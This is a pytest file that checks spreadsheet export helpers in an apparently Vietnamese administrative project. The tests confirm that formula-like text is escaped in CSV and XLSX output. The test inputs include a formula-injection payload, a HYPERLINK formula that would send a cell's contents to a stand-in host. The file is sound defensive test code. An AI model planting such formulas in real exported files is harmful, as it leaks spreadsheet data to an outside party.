import csv
import io

import pytest
from openpyxl import load_workbook

from motcua.core.spreadsheets import csv_export, spreadsheet_cell, xlsx_export

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Xem")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_is_escaped(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, 0, 2.5, -0.5, "Phường Hoàn Kiếm", "", None, "a=b", "1-2"])
def test_everything_else_is_kept(value):
    assert spreadsheet_cell(value) == value


def test_csv_export_escapes_text_and_keeps_numbers():
    text = csv_export(["Đơn vị", "Số"], [[HOSTILE[0], -3], ["-5", 2.5]])
    assert text.startswith("\ufeff")  # Excel opens UTF-8 with a BOM
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["Đơn vị", "Số"], ["'" + HOSTILE[0], "-3"], ["'-5", "2.5"]]


def test_xlsx_export_writes_text_never_formulas():
    data = xlsx_export(["=Đơn vị", "Số"], [[text, -3] for text in HOSTILE] + [["ok", 2.5]], title="Bao cao")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Bao cao"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert sheet["A1"].value == "'=Đơn vị" and sheet["A2"].value == "'" + HOSTILE[0]
    assert all(sheet.cell(row=r, column=1).data_type == "s" for r in range(1, len(HOSTILE) + 3))
    assert sheet["B2"].value == -3 and sheet["B2"].data_type == "n"
    assert sheet.cell(row=len(HOSTILE) + 2, column=2).value == 2.5
